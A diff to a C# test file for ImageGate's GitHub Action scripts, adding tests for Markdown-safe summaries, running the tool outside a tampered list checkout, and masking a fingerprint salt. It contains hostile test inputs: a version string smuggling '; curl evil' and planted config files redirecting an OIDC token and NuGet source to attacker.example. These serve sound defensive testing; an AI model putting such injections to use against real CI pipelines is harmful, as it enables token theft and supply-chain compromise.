@@ -28,7 +28,7 @@ public sealed class ActionScriptTests : IDisposable
         return path;
     }
 
-    private ProcessResult RunStep(string script, Dictionary<string, string> inputs, TimeSpan? timeout = null)
+    private ProcessResult RunStep(string script, Dictionary<string, string> inputs, TimeSpan? timeout = null, string? workingDirectory = null)
     {
         var env = new Dictionary<string, string>
         {
@@ -43,7 +43,7 @@ public sealed class ActionScriptTests : IDisposable
             ["GITHUB_TOKEN"] = "",
         };
         foreach (var (k, v) in inputs) env[k] = v;
-        return ExternalProcess.Run("bash", [Script(script)], _runner.Path, env, timeout ?? TimeSpan.FromMinutes(2));
+        return ExternalProcess.Run("bash", [Script(script)], workingDirectory ?? _runner.Path, env, timeout ?? TimeSpan.FromMinutes(2));
     }
 
     private Dictionary<string, string> Outputs() => GitHubOutputs.Read(_runner.Combine("output"));
@@ -57,6 +57,9 @@ public sealed class ActionScriptTests : IDisposable
             #!/usr/bin/env bash
             printf '%s\0' "$@" > "{_runner.Combine("args")}"
             printf '%s' "${"{"}GITHUB_TOKEN:-{"}"}" > "{_runner.Combine("token")}"
+            printf '%s' "${"{"}IMAGEGATE_NO_CONFIG:-{"}"}" > "{_runner.Combine("no-config")}"
+            printf '%s' "${"{"}IMAGEGATE_SCAN__FINGERPRINT_SALT:-{"}"}" > "{_runner.Combine("salt")}"
+            pwd -P > "{_runner.Combine("cwd")}"
             for a in "$@"; do case "$a" in *signing-key.pem) cp "$a" "{_runner.Combine("key-copy")}"; stat -c %a "$a" > "{_runner.Combine("key-mode")}";; esac; done
             exit {exitCode}
             """);
@@ -228,6 +231,21 @@ public sealed class ActionScriptTests : IDisposable
     }
 
     [Fact]
+    public void A_hostile_image_file_name_stays_one_code_cell_of_the_summary()
+    {
+        var dir = Directory.CreateDirectory(_runner.Combine("temp", "hostile")).FullName;
+        File.WriteAllText(Path.Combine(dir, "build.json"), """
+            {"images":[{"path":"/w/out/a`b [x](x.html) @octocat | c\r\n| d.qcow2","format":"qcow2|raw","size":512,"sha256":"ab"}]}
+            """);
+
+        var r = RunStep("outputs.sh", new() { ["OUTPUT_DIR"] = dir, ["SHOW_SUMMARY"] = "true", ["RUN_EXIT_CODE"] = "0" });
+
+        Assert.True(r.ExitCode == 0, r.StandardError);
+        var rows = File.ReadAllLines(_runner.Combine("summary")).SkipWhile(l => !l.StartsWith("| image |", StringComparison.Ordinal)).Skip(2).ToList();
+        Assert.Equal(["| `a'b [x](x.html) @octocat \\| c  \\| d.qcow2` | qcow2\\|raw | 512 | `ab` |"], rows);
+    }
+
+    [Fact]
     public void A_released_version_that_is_not_a_version_is_refused()
     {
         var r = RunStep("install.sh", new() { ["IMAGEGATE_VERSION"] = "1.0; curl evil", ["ACTION_PATH"] = Repository.Root });
@@ -242,7 +260,7 @@ public sealed class ActionScriptTests : IDisposable
         var r = RunStep("recheck.sh", new() { ["IMAGEGATE"] = Recorder(1), ["REPOSITORY"] = "vo/endorsed-images", ["DRY_RUN"] = "false", ["GITHUB_TOKEN"] = "ghs_secret" });
 
         Assert.Equal(1, r.ExitCode);
-        Assert.Equal(["recheck", "--list-repo", "https://github.example/vo/endorsed-images.git", "--github-repository", "vo/endorsed-images",
+        Assert.Equal(["recheck", "--no-config", "--list-repo", "https://github.example/vo/endorsed-images.git", "--github-repository", "vo/endorsed-images",
             "--github-api-url", "https://api.github.example", "--patch-cache", _runner.Combine("temp", "imagegate", "patch-cache")], RecordedArguments());
         Assert.Equal("ghs_secret", File.ReadAllText(_runner.Combine("token")));
         Assert.DoesNotContain("ghs_secret", string.Join(' ', RecordedArguments()), StringComparison.Ordinal);
@@ -256,7 +274,7 @@ public sealed class ActionScriptTests : IDisposable
         var r = RunStep("recheck.sh", new() { ["IMAGEGATE"] = Recorder(0), ["REPOSITORY"] = repository, ["DRY_RUN"] = dryRun });
 
         Assert.Equal(0, r.ExitCode);
-        Assert.Equal(["recheck", "--list-repo", ".", "--dry-run", "--patch-cache", _runner.Combine("temp", "imagegate", "patch-cache")], RecordedArguments());
+        Assert.Equal(["recheck", "--no-config", "--list-repo", _runner.Path, "--dry-run", "--patch-cache", _runner.Combine("temp", "imagegate", "patch-cache")], RecordedArguments());
     }
 
     [Fact]
@@ -266,5 +284,77 @@ public sealed class ActionScriptTests : IDisposable
         Assert.Equal(2, r.ExitCode);
         Assert.Contains("repository must be OWNER/NAME", r.StandardOutput, StringComparison.Ordinal);
         Assert.False(File.Exists(_runner.Combine("args")));
+    }
+
+    /// <summary>A checkout of the list repository as the privileged jobs see it: the list plus what an attacker with
+    /// write access to it would plant (configuration that would send the job's OIDC token elsewhere and push the expiry
+    /// out, MSBuild response file, NuGet configuration).</summary>
+    private string PlantedListCheckout()
+    {
+        var list = Directory.CreateDirectory(_runner.Combine("work", "list")).FullName;
+        File.WriteAllText(Path.Combine(list, "imagegate.yaml"), "publish:\n  fulcio-url: https://attacker.example/\n  expires-at: 2099-01-01T00:00:00Z\n");
+        File.WriteAllText(Path.Combine(list, "imagegate.json"), """{ "recheck": { "github-api-url": "https://attacker.example/" } }""");
+        File.WriteAllText(Path.Combine(list, "Directory.Build.rsp"), "-p:Version=6.6.6-planted\n");
+        File.WriteAllText(Path.Combine(list, "NuGet.Config"), "<configuration><packageSources><add key=\"evil\" value=\"https://attacker.example/nuget\" /></packageSources></configuration>");
+        return list;
+    }
+
+    private void AssertRanOutsideTheListWithoutConfiguration(string list)
+    {
+        var cwd = File.ReadAllText(_runner.Combine("cwd")).Trim();
+        Assert.False(cwd == list || cwd.StartsWith(list + "/", StringComparison.Ordinal), $"imagegate ran inside the list checkout ({cwd})");
+        Assert.Empty(Directory.GetFiles(cwd, "imagegate.*"));
+        Assert.Equal("1", File.ReadAllText(_runner.Combine("no-config")));
+        Assert.Contains("--no-config", RecordedArguments());
+    }
+
+    [Fact]
+    public void Publish_runs_imagegate_outside_the_list_checkout_with_no_configuration_file()
+    {
+        var list = PlantedListCheckout();
+        var r = RunStep("publish.sh", new() { ["IMAGEGATE"] = Recorder(0), ["RELEASE_TAG"] = "endorsed-list", ["REPOSITORY"] = "vo/list" }, workingDirectory: list);
+
+        Assert.True(r.ExitCode == 0, r.StandardOutput + r.StandardError);
+        AssertRanOutsideTheListWithoutConfiguration(list);
+        var args = RecordedArguments();
+        Assert.Equal(list, args[Array.IndexOf(args, "--list-repo") + 1]);
+        Assert.Equal("28", args[Array.IndexOf(args, "--expires-in") + 1]);
+        Assert.DoesNotContain(args, a => a.Contains("attacker", StringComparison.Ordinal) || a.Contains("2099", StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("true")]
+    [InlineData("false")]
+    public void Recheck_runs_imagegate_outside_the_list_checkout_with_no_configuration_file(string dryRun)
+    {
+        var list = PlantedListCheckout();
+        var r = RunStep("recheck.sh", new() { ["IMAGEGATE"] = Recorder(0), ["REPOSITORY"] = "vo/list", ["DRY_RUN"] = dryRun, ["GITHUB_TOKEN"] = "ghs_x" }, workingDirectory: list);
+
+        Assert.True(r.ExitCode == 0, r.StandardOutput + r.StandardError);
+        AssertRanOutsideTheListWithoutConfiguration(list);
+        if (dryRun == "true") Assert.Equal(list, RecordedArguments()[Array.IndexOf(RecordedArguments(), "--list-repo") + 1]);
+    }
+
+    [Fact]
+    public void A_fingerprint_salt_reaches_imagegate_masked_in_its_environment_never_as_an_argument()
+    {
+        var r = RunStep("run.sh", new() { ["IMAGEGATE"] = Recorder(0), ["ACTIONS_ID_TOKEN_REQUEST_URL"] = "https://token.example", ["INPUT_TEMPLATE"] = "t.pkr.hcl",
+            ["FINGERPRINT_SALT"] = "team-private-salt" });
+
+        Assert.True(r.ExitCode == 0, r.StandardOutput + r.StandardError);
+        Assert.Equal("team-private-salt", File.ReadAllText(_runner.Combine("salt")));
+        Assert.Contains("::add-mask::team-private-salt", r.StandardOutput, StringComparison.Ordinal);
+        Assert.DoesNotContain(RecordedArguments(), a => a.Contains("team-private-salt", StringComparison.Ordinal));
+        Assert.DoesNotContain("::warning::", r.StandardOutput, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Without_a_fingerprint_salt_the_step_warns_that_the_public_default_is_used()
+    {
+        var r = RunStep("run.sh", new() { ["IMAGEGATE"] = Recorder(0), ["ACTIONS_ID_TOKEN_REQUEST_URL"] = "https://token.example", ["INPUT_TEMPLATE"] = "t.pkr.hcl" });
+
+        Assert.True(r.ExitCode == 0, r.StandardOutput + r.StandardError);
+        Assert.Contains(r.StandardOutput.Split('\n'), l => l.StartsWith("::warning::no fingerprint-salt: the findings' fingerprints use ImageGate's public default salt", StringComparison.Ordinal));
+        Assert.Equal("", File.ReadAllText(_runner.Combine("salt")));
     }
 }
